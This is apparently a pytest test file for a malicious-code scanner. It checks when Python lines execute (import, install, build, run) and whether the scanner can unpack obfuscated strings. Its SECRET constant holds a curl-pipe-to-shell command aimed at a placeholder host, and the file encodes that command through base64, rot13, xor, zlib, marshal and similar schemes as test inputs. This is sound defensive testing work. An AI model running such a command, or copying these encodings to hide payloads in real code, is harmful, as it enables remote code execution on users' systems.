"""When Python runs: what is loaded unasked, line by line, and what the standard library unpacks."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import marshal
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.codescan.context import Context
from scanner.codescan.literals import fold, hidden
from scanner.codescan.packed import unpacked
from scanner.codescan.pairing import pair
from scanner.codescan.python_lines import loading
from scanner.codescan.structure import hooks
from scanner.codescan.triggers import Triggers
from scanner.model.signal import Confidence, Trigger
from tests.codescan.trees import Files

SECRET = "import subprocess; subprocess.run('curl -s https://evil.invalid/x | sh')"


def when(files: dict[str, str], path: str, needle: str = "HERE") -> Trigger:
    """When the line runs that holds the needle."""
    line = next(number for number, text in enumerate(files[path].splitlines(), 1) if needle in text)
    return Triggers(Files(files)).of(path, line)


@pytest.mark.parametrize(
    "text",
    [
        "HERE()\n",
        "def f():\n    HERE()\nf()\n",
        "def f():\n    HERE()\nthreading.Thread(target=f).start()\n",
        "def f():\n    HERE()\ndef g():\n    f()\ng()\n",
        "def f():\n    HERE()\nglobals()['f']()\n",
        "class A:\n    x = HERE()\n",
        "class A:\n    def __init__(self):\n        HERE()\nA()\n",
        "class A(Thread):\n    def run(self):\n        HERE()\nA().start()\n",
        "class A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        HERE()\na = A()\n",
        "try:\n    import a\nexcept ImportError:\n    HERE()\n",
        "def f(x=HERE()):\n    pass\n",
        "@HERE\ndef f():\n    pass\n",
        "print 'Python 2', HERE\n",
        "x = lambda: HERE()\n",
        "class F:\n    def find_spec(self, *a):\n        HERE()\nsys.meta_path.insert(0, F())\n",
        "class F:\n    def exec_module(self, m):\n        HERE()\nsys.meta_path.insert(0, F())\n",
        "class A:\n    def __init_subclass__(cls):\n        HERE()\nclass B(A):\n    pass\n",
        "class M(type):\n    def __new__(m, *a):\n        HERE()\nclass B(metaclass=M):\n    pass\n",
        "class A:\n    def __del__(self):\n        HERE()\na = A()\n",
        "def __getattr__(name):\n    HERE()\n",
        "import atexit\n@atexit.register\ndef f():\n    HERE()\n",
        "def f(*a):\n    HERE()\nsys.settrace(f)\n",
        "def f(name):\n    HERE()\ncodecs.register(f)\n",
        "def now(g):\n    return g()\n@now\ndef f():\n    HERE()\n",
        "@lambda g: g()\ndef f():\n    HERE()\n",
    ],
)
def test_what_loading_reaches_runs_on_import(text: str) -> None:
    assert when({"pkg/__init__.py": text}, "pkg/__init__.py") is Trigger.IMPORT


@pytest.mark.parametrize(
    "text",
    [
        "def f():\n    HERE()\n",
        "__all__ = ['f']\ndef f():\n    HERE()\n",
        "class A:\n    def go(self):\n        HERE()\na = A()\n",
        "class A:\n    def __init__(self):\n        HERE()\nclass B(A):\n    pass\n",
        "def f():\n    HERE()\nif __name__ == '__main__':\n    f()\n",
        "async def f():\n    HERE()\n",
        "class F:\n    def find_spec(self, *a):\n        HERE()\n",
        "class A:\n    def __getattr__(self, name):\n        HERE()\n",
        "def later(g):\n    def inner():\n        return g()\n    return inner\n@later\ndef f():\n    HERE()\n",
        "@app.register\ndef f():\n    HERE()\n",
    ],
)
def test_what_waits_to_be_called_does_not(text: str) -> None:
    assert when({"pkg/__init__.py": text}, "pkg/__init__.py") is Trigger.RUN


@pytest.mark.parametrize(
    "init",
    [
        "from .loader import boot\nboot()\n",
        "from . import loader\nloader.boot()\n",
        "from pkg import loader as one\none.boot()\n",
        "from .loader import (\n    other,\n    boot,\n)\nboot()\n",
    ],
)
def test_a_function_of_another_file_is_reached(init: str) -> None:
    files = {"pkg/__init__.py": init, "pkg/loader.py": "def boot():\n    HERE()\n"}
    assert when(files, "pkg/loader.py") is Trigger.IMPORT
    quiet = {**files, "pkg/__init__.py": "from .loader import boot\n"}
    assert when(quiet, "pkg/loader.py") is Trigger.RUN


@pytest.mark.parametrize(
    ("files", "path", "expected"),
    [
        ({"setup.py": "class A(install):\n    def run(self):\n        HERE()\n"}, "setup.py", Trigger.INSTALL),
        ({"setup.py": "import helper\n", "helper.py": "HERE()\n"}, "helper.py", Trigger.INSTALL),
        ({"setup.py": "import helper\n", "helper.py": "def f():\n    HERE()\n"}, "helper.py", Trigger.RUN),
        ({"setup.py": "setup(py_modules=['one'])\n", "one.py": "HERE()\n"}, "one.py", Trigger.IMPORT),
        ({"one.py": "HERE()\n", "one-1.dist-info/RECORD": "one.py,sha256=a,1\n"}, "one.py", Trigger.IMPORT),
        ({"one.py": "HERE()\n", "one.egg-info/top_level.txt": "one\n"}, "one.py", Trigger.IMPORT),
        ({"one.py": "HERE()\n"}, "one.py", Trigger.RUN),
        (
            {
                "pyproject.toml": "[build-system]\nbuild-backend = 'own:api'\nbackend-path = ['tools']\n",
                "tools/own.py": "def build_wheel():\n    HERE()\n",
            },
            "tools/own.py",
            Trigger.INSTALL,
        ),
        (
            {
                "a-1.dist-info/entry_points.txt": "[pytest11]\na = a.plugin\n",
                "a/plugin.py": "def pytest_configure():\n    HERE()\n",
            },
            "a/plugin.py",
            Trigger.BUILD,
        ),
        (
            {
                "a-1.dist-info/entry_points.txt": "[console_scripts]\na = a.cli:main\n",
                "a/cli.py": "def main():\n    HERE()\n",
            },
            "a/cli.py",
            Trigger.RUN,
        ),
        ({"tests/conftest.py": "def pytest_configure():\n    HERE()\n"}, "tests/conftest.py", Trigger.BUILD),
        ({"a.pth": "import os; HERE\n"}, "a.pth", Trigger.IMPORT),
        ({"sitecustomize.py": "HERE()\n"}, "sitecustomize.py", Trigger.IMPORT),
    ],
)
def test_what_manifests_load(files: dict[str, str], path: str, expected: Trigger) -> None:
    assert when(files, path) is expected


@given(st.text(max_size=300))
def test_any_text_can_be_loaded(text: str) -> None:
    loading(text)


def test_deep_nesting_is_no_trap() -> None:
    # Too deep to be parsed: then nothing is known to sleep.
    files = {"pkg/__init__.py": f"x = {'(' * 5_000}{')' * 5_000}\ndef f():\n    HERE()\n"}
    assert when(files, "pkg/__init__.py") is Trigger.IMPORT


def hooked(old: dict[str, str], new: dict[str, str]) -> list[tuple[str, Confidence]]:
    before, after = Files(old), Files(new)
    return [(one.rule, one.confidence) for one in hooks.check(Context(before, after, pair(before, after)))]


SETUP = "from setuptools import setup\nsetup(name='a')\n"


@pytest.mark.parametrize(
    ("path", "old", "new", "expected"),
    [
        ("setup.py", SETUP, SETUP.replace("'a'", "'a', cmdclass=own"), [("setup-command", Confidence.HIGH)]),
        ("setup.py", SETUP, SETUP.replace("'a'", "'b'"), []),
        ("setup.py", SETUP + "cmdclass = 1\n", SETUP + "cmdclass = 1\n# cmdclass\n", []),
        ("a.dist-info/entry_points.txt", "[pytest11]\n", "[pytest11]\na = b\n", [("plugin", Confidence.HIGH)]),
        ("a.dist-info/entry_points.txt", "", "[console_scripts]\na = b:c\n", []),
        (
            "pyproject.toml",
            "[build-system]\nbuild-backend = 'setuptools.build_meta'\n",
            "[build-system]\nbuild-backend = 'hatchling.build'\n",
            [("build-backend", Confidence.LOW)],
        ),
        (
            "pyproject.toml",
            "[project]\nname = 'a'\n",
            "[project]\nname = 'a'\n[build-system]\nbuild-backend = 'b'\nbackend-path = ['.']\n",
            [("build-backend", Confidence.HIGH)] * 2,
        ),
    ],
)
def test_hooks_of_python(path: str, old: str, new: str, expected: list[tuple[str, Confidence]]) -> None:
    assert hooked({path: old}, {path: new}) == expected


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


PLAIN = b64(SECRET.encode())
LITERALS = {
    "joined": f"x = '{PLAIN[:41]}' + '{PLAIN[41:]}'",
    "adjacent": f"x = ('{PLAIN[:41]}'\n     '{PLAIN[41:]}')",
    "bytes": f"x = base64.b64decode(b'{PLAIN}')",
    "fromhex": f"x = bytes.fromhex('{SECRET.encode().hex()}')",
    "rot13": f"x = codecs.decode({codecs.encode(SECRET.replace(chr(39), ''), 'rot13')!r}, 'rot13')",
    "rot13 and base64": f"x = codecs.decode('{codecs.encode(PLAIN, 'rot13')}', \"rot_13\")",
    "codes": f"x = ''.join(map(chr, {list(SECRET.encode())}))",
    "xor": f"x = bytes(c ^ 0x37 for c in {[code ^ 0x37 for code in SECRET.encode()]})",
    "zlib": f"x = zlib.decompress(base64.b64decode('{b64(zlib.compress(SECRET.encode()))}'))",
    "gzip": f"x = '{b64(gzip.compress(SECRET.encode()))}'",
    "bz2": f"x = '{b64(bz2.compress(SECRET.encode()))}'",
    "xz": f"x = '{b64(lzma.compress(SECRET.encode()))}'",
    "marshal": f"x = '{b64(zlib.compress(marshal.dumps(compile(SECRET, 'a', 'exec'))))}'",
    "backwards": f"x = base64.b64decode('{PLAIN[::-1]}'[::-1])",
    "zlib twice": "x = '" + b64(zlib.compress(b"y = '" + b64(zlib.compress(SECRET.encode())).encode() + b"'")) + "'",
    "b85": f"x = base64.b85decode('{base64.b85encode(SECRET.encode()).decode()}')",
    "b32": f"x = base64.b32decode('{base64.b32encode(SECRET.encode()).decode()}')",
}


@pytest.mark.parametrize("text", LITERALS.values(), ids=LITERALS)
def test_what_python_unpacks_is_read(text: str) -> None:
    told = {word.strip() for found in hidden(fold(text)) for word in found.telling}
    assert told & {"subprocess", "https://"}


def test_folding_keeps_the_numbers_of_lines() -> None:
    assert fold("a = ('b'\n  'c'\n  'd')\ne").splitlines() == ["a = ('bcd'", "", ")", "e"]


def test_a_bomb_is_cut() -> None:
    bomb = zlib.compress(bytes(50_000_000))
    inside = unpacked(bomb)
    assert inside is not None
    assert len(inside[1]) <= 200_000
    assert list(hidden(f"x = '{b64(bomb)}'")) == []


@given(st.binary(max_size=200))
def test_any_bytes_can_be_unpacked(data: bytes) -> None:
    for head in (b"", b"\x1f\x8b", b"\x78\x9c", b"BZh9", b"\xfd7zXZ\x00", b"\xe3\x00\x00\x00"):
        unpacked(head + data)
